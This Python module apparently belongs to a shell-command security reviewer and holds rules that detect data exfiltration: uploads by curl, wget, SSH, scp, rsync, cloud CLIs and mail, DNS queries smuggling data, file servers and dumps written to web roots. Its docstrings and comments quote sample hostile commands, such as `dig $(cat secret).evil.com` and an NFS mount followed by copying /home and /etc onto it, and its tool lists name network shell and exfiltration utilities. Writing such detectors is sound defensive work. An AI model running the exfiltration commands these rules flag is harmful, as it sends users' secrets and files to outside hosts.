"""Exfiltration: data leaving the machine by upload, copy, mail, DNS, or a server exposing it."""

from __future__ import annotations

import re
from collections.abc import Iterator

from forethought.review.base import Prediction
from forethought.review.payloads import injected_payload
from forethought.review.shell.interpreters import SHELLS, inline_code
from forethought.review.shell.model import ShellAnalysis, SimpleCommand
from forethought.review.shell.paths import secret_kind
from forethought.review.shell.predict import (
    EXFILTRATION,
    REMOTE_CODE_EXECUTION,
    harm,
)
from forethought.review.shell.rules.common import (
    Needs,
    host_of,
    is_local_host,
    is_remote_spec,
    option_values,
)
from forethought.review.shell.rules.network import (
    DATA_READERS,
    DNS_AND_PROBES,
    HARMLESS_SUBSTITUTIONS,
    UPLOAD_LINES,
    carries_local_data,
    file_secret,
    inner_commands,
    reads_local_data,
    reads_secret,
    send,
    upstream_secret,
)
from forethought.review.shell.writes import RSYNC_VALUED, operands

Rule = Iterator[Prediction]
_BUCKET = re.compile(r"^(?:s3|gs)://([^/]+)")
_COPIES = frozenset({"cp", "sync", "mv", "rsync"})


def _ssh(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    files = [t for op, t in cmd.redirects if op.lstrip("0123456789") == "<" and t != "/dev/null"]
    upstream = analysis.upstream(cmd)
    ops = operands(cmd, "bcDEeFIiJLlmOopQRSWw")
    remote_command = ops[1:]
    remote_shell = not remote_command or remote_command[0].split()[0] in SHELLS
    parsed = not any(i.kind == "parse_error" for i in analysis.issues)
    if (files or upstream) and remote_shell and parsed:
        return  # commands for the remote shell; literal ones are reviewed as a nested script
    if files or upstream:
        host = next((a for a in ops if a), "a remote host")
        source = files[0] if files else f"the output of `{upstream[0].text}`"
        secret = file_secret(files[0], cmd.cwd) if files else upstream_secret(analysis, cmd)
        yield send(cmd, source, f"{host_of(host)} over SSH", secret, "moderate", 0.6)


# -- exfiltration ------------------------------------------------------------------------------

_CURL_UPLOADS = (
    "-d",
    "--data",
    "--data-binary",
    "--data-raw",
    "--data-ascii",
    "--data-urlencode",
    "--json",
    "-F",
    "--form",
    "--form-string",
    "-T",
    "--upload-file",
    # (`-H @file` sends the file's lines as request headers, curl(1) 7.55+)
    "-H",
    "--header",
)


def _urls(cmd: SimpleCommand) -> list[str]:
    return [a for a in cmd.args if re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*://", a)] or [
        a
        for a in operands(cmd, "oOPdHXAeuUTFxrwbcEK", ("data", "output", "header", "user"))
        if "." in a or ":" in a
    ]


# Options that send a client's request somewhere other than its URL's host: through a proxy,
# which sees it, or to another address for that host (`--resolve localhost:80:203.0.113.9`,
# `--connect-to`).
_PROXY_OPTIONS = ("-x", "--proxy", "--preproxy", "--socks4", "--socks4a", "--socks5",
                  "--socks5-hostname", "--resolve", "--connect-to")


def destination(cmd: SimpleCommand) -> tuple[str, bool]:
    """Where an HTTP client's request goes (its first URL's host) and whether that is this
    machine; never through a proxy, which sees the request whatever its URL, nor where the
    host is made to resolve or connect elsewhere."""
    urls = _urls(cmd)
    if not urls:
        return "a web server", False
    host = host_of(urls[0])
    proxied = any(
        a.split("=", 1)[0] in _PROXY_OPTIONS or "proxy=" in a.lower() for a in cmd.args
    ) or any(v.lower() in ("http_proxy", "https_proxy", "all_proxy") for v in cmd.env)
    return host or urls[0], is_local_host(host) and not proxied


def _curl(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    where, local = destination(cmd)
    for url in _urls(cmd):
        payload = injected_payload(url.split("?", 1)[1] if "?" in url else "")
        if payload is not None:
            yield harm(
                cmd,
                REMOTE_CODE_EXECUTION,
                f"sends a command-injection payload (`{payload[:60]}`) to {where}: the service "
                "would run it",
                "high",
                0.8,
                False,
            )
        scheme = url.split("://", 1)[0].lower()
        if scheme in ("gopher", "dict", "telnet", "ldap", "smtp", "smtps", "tftp"):
            yield harm(
                cmd,
                EXFILTRATION,
                f"sends raw data to {where} over {scheme}://",
                "moderate",
                0.6,
                False,
            )
        if scheme == "file":
            path = url.split("://", 1)[1]
            kind = secret_kind(path)
            if kind:
                from forethought.review.shell.predict import SECRET_ACCESS

                yield harm(
                    cmd,
                    SECRET_ACCESS,
                    f"reads {path} ({kind[0]}) through curl file://",
                    "high" if kind[1] else "moderate",
                    0.8,
                    False,
                )
    # (curl's short options may come clustered: `curl -sT - URL` uploads its standard input)
    clustered = _cluster_ends(cmd.args, "dFT")
    uploaded = [*option_values(cmd, "-T", "--upload-file"), *clustered.get("T", [])]
    values = [*option_values(cmd, *_CURL_UPLOADS), *(v for vs in clustered.values() for v in vs)]
    for value in values:
        field = value.split("=", 1)[1] if cmd.name == "curl" and "=@" in value else value
        if field.startswith(("@", "<")) or value in uploaded:
            path = field.lstrip("@<").split(";", 1)[0]
            secret_sent = file_secret(path, cmd.cwd) or (
                path in ("-", ".") and upstream_secret(analysis, cmd)
            )
            if local and not secret_sent:
                return  # to a server on this machine (loopback): the data stays here
            if path in ("-", "."):
                upstream = analysis.upstream(cmd)
                source = f"the output of `{upstream[0].text}`" if upstream else "its standard input"
                yield send(
                    cmd,
                    source,
                    where,
                    upstream_secret(analysis, cmd),
                    "moderate" if local else "high",
                )
            else:
                yield send(
                    cmd, path, where, file_secret(path, cmd.cwd), "moderate" if local else "high"
                )
            return
    yield from _post_data(cmd, analysis, where, local)


def _cluster_ends(args: list[str], letters: str) -> dict[str, list[str]]:
    """The values of short options of ``letters`` that end a cluster of flags (`-sT -`,
    `-sSd @f`): {letter: values}. (An option alone, `-T f`, is option_values'.)"""
    found: dict[str, list[str]] = {}
    for i, arg in enumerate(args[:-1]):
        if arg == "--":
            break
        if len(arg) > 2 and arg[0] == "-" and arg[-1] in letters and arg[1:-1].isalpha():
            found.setdefault(arg[-1], []).append(args[i + 1])
    return found


def _post_data(cmd: SimpleCommand, analysis: ShellAnalysis, where: str, local: bool) -> Rule:
    """What the substitutions in an HTTP client's words send: the first that carries local data
    is judged (to a server on this machine, only a secret counts; a sign-in token in a header
    to one signs in there)."""
    if not carries_local_data(analysis, cmd):
        return
    inner = inner_commands(analysis, cmd)
    own = {
        i: [c for c in inner if c.text and any(c.text in sub for sub in word.substitutions)]
        for i, word in enumerate(cmd.words[1:], 1)
        if word.substitutions
    }
    told_apart = any(own.values())
    for i, word in enumerate(cmd.words[1:], 1):
        if not word.substitutions:
            continue
        # (the word's own commands; all of them where they cannot be told apart)
        mine = own[i] if told_apart else inner
        secret = next((s for c in mine if (s := reads_secret(c))), None)
        if local and secret and signs_in_here(cmd, i) and token_kind(secret):
            # (`curl -H "X-ZT1-Auth: $(cat authtoken.secret)" http://localhost:9993/...`:
            # the daemon's own token signs in to it; it stays on this machine, though the
            # command line shows it to the machine's other users)
            yield harm(
                cmd,
                EXFILTRATION,
                f"signs in to {where} (this machine) with {secret}, which its command line "
                "shows to the machine's other users",
                "low",
                0.5,
                True,
            )
            continue
        if local and not secret:
            continue  # to a server on this machine (loopback): the data stays here
        if not secret and not any(reads_local_data(c) for c in mine):
            continue
        yield send(
            cmd,
            f"the output of `{word.substitutions[0]}`",
            where,
            secret,
            "moderate" if local else "high",
            0.6,
        )
        return


# The HTTP clients whose request data and headers _post_data reads.
HTTP_CLIENTS = frozenset({"curl", "wget"})
# Options whose value is a request header (curl's -H, wget's --header).
_HEADER_OPTIONS = frozenset({"-H", "--header"})


# The secrets a service is signed in to with (a token, an application's secret), not keys,
# password hashes, cloud credentials or private data, which no request header carries.
_TOKEN_KINDS = (
    "a stored login token or password",
    "a file of application secrets",
    "an environment file with secrets",
    "a Kubernetes service-account token or cluster key",
    "mounted service-account secrets",
)


def token_kind(secret: str) -> bool:
    """Whether ``secret`` (a path and its kind, as reads_secret says it) is a sign-in token."""
    return secret.endswith(tuple(f"({kind})" for kind in _TOKEN_KINDS))


def signs_in_here(cmd: SimpleCommand, index: int) -> bool:
    """Whether word ``index`` of an HTTP client's command is a request header (`-H "Auth:
    $(cat token)"`, `--header=...`): what it carries signs in, it is not the request's data."""
    word = cmd.words[index].value
    before = cmd.words[index - 1].value if index > 1 else ""
    return before in _HEADER_OPTIONS or word.startswith("--header=")


def _wget(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    where, local = destination(cmd)
    for path in option_values(cmd, "--post-file", "--body-file"):
        if local and not file_secret(path, cmd.cwd):
            return  # to a server on this machine (loopback): the data stays here
        yield send(cmd, path, where, file_secret(path, cmd.cwd), "moderate" if local else "high")
        return
    yield from _post_data(cmd, analysis, where, local)


def _copy_to_mounted_share(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    """Files copied onto another machine's share mounted on the same command line (NFS, SMB,
    sshfs): ``mount -t nfs 203.0.113.28:/export /mnt/r && cp -r /home /etc /mnt/r/``."""
    mounts = analysis.remote_mounts()
    if not mounts:
        return
    args = operands(cmd, "tS" if cmd.name in ("cp", "mv", "install") else "")
    targets = [*args[-1:], *(t for op, t in cmd.redirects if op.lstrip("1") in (">", ">>"))]
    targets += [a.split("=", 1)[1] for a in cmd.args if a.startswith(("of=", "--file=", "-f"))]
    for target in targets:
        point = next((p for p in mounts if target == p or target.startswith(p + "/")), None)
        if point is None:
            continue
        sources = [a for a in args[:-1] if a != target] or ["its input"]
        secret = next((s for src in sources if (s := file_secret(src, cmd.cwd))), None)
        where = f"{mounts[point]} (its share mounted at {point})"
        yield send(cmd, ", ".join(sources[:3]), where, secret, "high")
        return


def _copy_to_remote(cmd: SimpleCommand, _a: ShellAnalysis) -> Rule:
    """scp/rsync/rclone/cloud copies whose destination is another machine."""
    name = cmd.name
    if name in ("aws", "gsutil", "az", "gcloud"):
        args = cmd.args
        ops = [a for a in args if not a.startswith("-")]
        if (
            len(ops) >= 3
            and ops[1] in ("cp", "sync", "mv", "rsync", "upload")
            and re.match(r"^(?:s3|gs|az|https?)://", ops[-1])
            and not re.match(r"^\w+://", ops[2])
        ):
            yield send(
                cmd,
                ops[2],
                f"cloud storage at {ops[-1]}",
                file_secret(ops[2], cmd.cwd),
                "moderate",
                0.6,
            )
        elif (
            (verb := next((i for i, o in enumerate(ops[:3]) if o in _COPIES), None)) is not None
            and len(ops) >= verb + 3
            and (source := _BUCKET.match(ops[verb + 1])) is not None
            and (target := _BUCKET.match(ops[-1])) is not None
            and source.group(1) != target.group(1)
        ):
            # (a bucket copied into another bucket, another account's perhaps: ATT&CK T1537)
            yield harm(
                cmd,
                EXFILTRATION,
                f"copies the bucket {source.group(1)} into another bucket ({target.group(1)})",
                "moderate",
                0.5,
                False,
            )
        return
    ops = operands(
        cmd,
        "eFiIloPScTfBJ" if name == "scp" else "eTfB",
        (
            *RSYNC_VALUED,
            "log-file",
            "password-file",
            "port",
            "bwlimit",
            "temp-dir",
            "compare-dest",
            "link-dest",
            "backup-dir",
            "suffix",
            "timeout",
            "exclude-from",
            "include-from",
            "config",
            "transfers",
        ),
    )
    if name in ("rclone",):
        ops = ops[1:] if ops and ops[0] in ("copy", "sync", "move", "copyto", "moveto") else []
    if len(ops) < 2:
        return
    destination, sources = ops[-1], ops[:-1]
    remote = is_remote_spec(destination) or "::" in destination
    if not remote or all(is_remote_spec(s) for s in sources):
        return
    host = host_of(destination)
    if is_local_host(host):
        return
    local_sources = [s for s in sources if not is_remote_spec(s)]
    secret = next((s for src in local_sources if (s := file_secret(src, cmd.cwd))), None)
    yield send(cmd, ", ".join(local_sources[:3]), host or destination, secret)


def _transfer_client(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    """Interactive clients (ftp, sftp, tftp, smbclient): uploads are the `put` lines they read."""
    script = " ".join(option_values(cmd, "-c", "-e", "--command")) + "\n" + (cmd.stdin or "")
    for owner, rest in analysis.transcripts:
        if owner is cmd:
            script += "\n" + rest
    if cmd.name in ("ncftpput", "curlftpfs") or UPLOAD_LINES.search(script):
        yield send(cmd, "local files", "a remote file server", None, "high", 0.7)
    elif cmd.name not in ("busybox",):
        yield harm(
            cmd,
            EXFILTRATION,
            f"opens a {cmd.name} session with a remote host, through which files can be sent",
            "moderate",
            0.5,
            True,
        )


def _mail(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    attachments = option_values(cmd, "-a", "-A", "--attach")
    files = [t for op, t in cmd.redirects if op.lstrip("0123456789") == "<" and t != "/dev/null"]
    upstream = analysis.upstream(cmd)
    if not (attachments or files or upstream or cmd.stdin):
        return
    paths = attachments + files
    secret = next((s for p in paths if (s := file_secret(p, cmd.cwd))), None) or upstream_secret(
        analysis, cmd
    )
    what = (
        ", ".join(paths)
        if paths
        else (f"the output of `{upstream[0].text}`" if upstream else "a message")
    )
    yield send(cmd, what, "an email recipient", secret, "moderate", 0.6)


def _probe_with_data(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    """DNS lookups and pings whose name carries data: `dig $(cat secret).evil.com`."""
    inner = [c for c in inner_commands(analysis, cmd) if c.name not in HARMLESS_SUBSTITUTIONS]
    smuggled = any(
        w.substitutions and w.span.strip("\"'") not in w.substitutions for w in cmd.words[1:]
    )
    reads_data = any(c.name in DATA_READERS or reads_secret(c) for c in inner)
    if inner and (smuggled or reads_data):
        secret = next((s for c in inner if (s := reads_secret(c))), None)
        yield send(
            cmd,
            f"the output of `{inner[0].text}`",
            f"a name server (hidden in a {cmd.name} query)",
            secret,
            "high",
            0.7,
        )
    elif cmd.name == "whois" and option_values(cmd, "-h"):
        host = option_values(cmd, "-h")[0]
        if not is_local_host(host):
            yield send(
                cmd,
                "the query text",
                f"{host} (a whois server of its choosing)",
                None,
                "moderate",
                0.5,
            )
    elif cmd.name == "finger" and any("@" in a for a in cmd.args):
        yield send(cmd, "the query text", "the finger server named after @", None, "moderate", 0.5)


def _misc_upload(cmd: SimpleCommand, analysis: ShellAnalysis) -> Rule:
    name = cmd.name
    if name == "ab":
        for path in option_values(cmd, "-p", "-u"):
            yield send(cmd, path, destination(cmd)[0], file_secret(path, cmd.cwd))
    elif name == "hping3" or name == "hping":
        for path in option_values(cmd, "--file", "-E"):
            yield send(
                cmd, path, "a remote host inside ICMP/TCP packets", file_secret(path, cmd.cwd)
            )
    elif name in ("lp", "lpr"):
        hosts = option_values(cmd, "-h", "-H")
        if hosts and not is_local_host(host_of(hosts[0])):
            files = operands(cmd, "hHdPnotqU")
            yield send(
                cmd,
                ", ".join(files) or "a document",
                f"the print server {hosts[0]}",
                None,
                "moderate",
                0.6,
            )
    elif name == "cancel" and option_values(cmd, "-h"):
        yield send(
            cmd,
            "request data",
            f"the print server {option_values(cmd, '-h')[0]}",
            None,
            "moderate",
            0.5,
        )
    elif name in ("tar", "bsdtar", "gtar"):
        for archive in option_values(cmd, "-f", "--file") + [
            a[1:] for a in cmd.args[:1] if a.endswith("f") and not a.startswith("-")
        ]:
            if is_remote_spec(archive) and "@" in archive:
                yield send(cmd, "an archive of local files", host_of(archive), None)
        if (
            cmd.args
            and not cmd.args[0].startswith("-")
            and "f" in cmd.args[0]
            and len(cmd.args) > 1
            and is_remote_spec(cmd.args[1])
        ):
            yield send(cmd, "an archive of local files", host_of(cmd.args[1]), None)
    elif name in ("rlogin", "rsh", "rexec"):
        yield harm(
            cmd,
            EXFILTRATION,
            f"opens an unencrypted {name} session with a remote host",
            "moderate",
            0.5,
            False,
        )
    # (restic and borg: the catalogue, programs.d/backup_release.toml, knows which of their
    # subcommands send data; `restic -r sftp:... init` sends none)
    elif name in ("duplicity", "kopia", "rdiff-backup"):
        text = " ".join(cmd.args)
        if re.search(r"(?:rest|sftp|s3|b2|azure|gs|swift|rclone):|://|\w@[\w.-]+:", text):
            yield send(cmd, "a backup of local files", "a remote repository", None, "moderate", 0.6)
    elif name == "sshfs":
        yield harm(
            cmd,
            EXFILTRATION,
            "mounts a remote file system: files copied into it leave this machine",
            "moderate",
            0.5,
            True,
        )
    elif name == "smbclient":
        yield from _transfer_client(cmd, analysis)


# Programs whose only job is to serve a directory over HTTP.
_FILE_SERVERS = ("httpd", "darkhttpd", "webfsd", "http-server", "miniserve", "updog")


def _servers(cmd: SimpleCommand, _a: ShellAnalysis) -> Rule:
    """Programs that serve a directory over HTTP (or similar) to other machines."""
    name, args = cmd.name, cmd.args
    served: str | None = None
    bind = ""
    code = inline_code(name, cmd.words[1:])
    if code is not None and code.module in (
        "http.server",
        "SimpleHTTPServer",
        "uploadserver",
        "pyftpdlib",
        "CGIHTTPServer",
        "RangeHTTPServer",
    ):
        served = (
            option_values(cmd, "-d", "--directory")[0]
            if option_values(cmd, "-d", "--directory")
            else "."
        )
        bind = (option_values(cmd, "-b", "--bind") or [""])[0]
    elif (
        code is not None
        and code.language == "ruby"
        and code.module == "un"
        and "httpd" in (code.code or "")
    ):
        served = "."
    elif name == "php" and option_values(cmd, "-S"):
        bind = option_values(cmd, "-S")[0].rsplit(":", 1)[0]
        served = (option_values(cmd, "-t") or ["."])[0]
    elif (name == "busybox" and args[:1] == ["httpd"]) or name in _FILE_SERVERS:
        served = (option_values(cmd, "-h") or ["."])[0] if name in ("busybox", "httpd") else "."
    elif name == "kubectl" and args[:1] == ["proxy"]:
        www = option_values(cmd, "--www", "-w")
        if www:
            served = www[0]
        bind = (option_values(cmd, "--address") or ["127.0.0.1"])[0]
    elif name == "twistd" and "web" in args:
        served = (option_values(cmd, "--path") or ["."])[0]
    if served is None:
        return
    if bind and is_local_host(bind):
        yield harm(
            cmd, EXFILTRATION, f"serves {served} over HTTP on this machine only", "low", 0.4, True
        )
        return
    yield harm(
        cmd,
        EXFILTRATION,
        f"serves the files in {served} to any machine that can reach this one",
        "moderate",
        0.6,
        False,
    )


COMMANDS: dict[str, list] = {
    "curl": [_curl],
    "wget": [_wget],
    "ssh": [_ssh],
}
for _tool in ("scp", "rsync", "rclone", "aws", "gsutil"):
    COMMANDS[_tool] = [_copy_to_remote]
for _tool in ("mail", "mailx", "mutt", "sendmail", "ssmtp", "msmtp", "s-nail", "neomutt"):
    COMMANDS[_tool] = [_mail]
for _tool in (
    "ab",
    "hping3",
    "hping",
    "lp",
    "lpr",
    "cancel",
    "tar",
    "bsdtar",
    "gtar",
    "rlogin",
    "rsh",
    "rexec",
    "restic",
    "borg",
    "duplicity",
    "kopia",
    "sshfs",
    "smbclient",
):
    COMMANDS[_tool] = [_misc_upload]
for _tool in ("ftp", "sftp", "tftp", "lftp", "ncftp", "ncftpput", "pftp"):
    COMMANDS[_tool] = [_transfer_client]
for _tool in sorted(DNS_AND_PROBES | {"nc", "ncat", "telnet"}):
    COMMANDS.setdefault(_tool, []).append(_probe_with_data)
for _tool in ("python", "php", "ruby", "busybox", *_FILE_SERVERS, "kubectl", "twistd"):
    COMMANDS.setdefault(_tool, []).append(_servers)
for _tool in ("cp", "mv", "rsync", "tar", "dd", "tee", "install", "ditto"):
    COMMANDS.setdefault(_tool, []).append(_copy_to_mounted_share)


# A web server's document root: what is written there, anyone who can reach the server can
# download (nginx's and Apache's default roots on Debian, Fedora and Arch; a user's public_html).
_WEB_ROOT = re.compile(
    r"^(?:/var/www(?:/html)?|/usr/share/nginx/html|/srv/(?:www|http)|/var/lib/nginx/html|"
    r"/home/[^/]+/public_html|~/public_html)(?:/|$)"
)
# What a dump or an archive of data is called: a database dump, a backup, an archive.
_DATA_FILE = re.compile(
    r"\.(?:sql|dump|bak|backup|tar|tgz|tbz2?|txz|gz|bz2|xz|zst|zip|7z|rar|db|sqlite3?|csv)$",
    re.IGNORECASE,
)
_DUMPERS = frozenset(
    {"mysqldump", "mariadb-dump", "pg_dump", "pg_dumpall", "mongodump", "sqlite3", "redis-cli"}
)
_ARCHIVERS = frozenset({"tar", "bsdtar", "gtar", "zip", "7z", "7za", "gzip", "rar", "cp", "mv"})


def _into_web_root(cmd: SimpleCommand, _a: ShellAnalysis) -> Rule:
    """A database dump or an archive of data written where the web server serves files
    (`mysqldump shop > /var/www/html/shop.sql`): anyone who guesses its name downloads it."""
    from forethought.review.shell.paths import normalise
    from forethought.review.shell.writes import write_targets

    base = cmd.name.rsplit("/", 1)[-1]
    if base not in _DUMPERS and base not in _ARCHIVERS:
        return
    for target in write_targets(cmd):
        if target.how in ("rm", "chmod", "chown", "touch", "mkdir"):
            continue
        path = normalise(target.path, cmd.cwd)
        if not _WEB_ROOT.match(path) or not (base in _DUMPERS or _DATA_FILE.search(path)):
            continue
        what = "a database dump" if base in _DUMPERS else "an archive of data"
        yield harm(
            cmd,
            EXFILTRATION,
            f"writes {what} to {target.path}, in the web server's document root: anyone who "
            "can reach the server can download it",
            "high",
            0.6,
            False,
        )
        return


GENERIC = [_into_web_root]
NEEDS = {_into_web_root: Needs.WRITES}
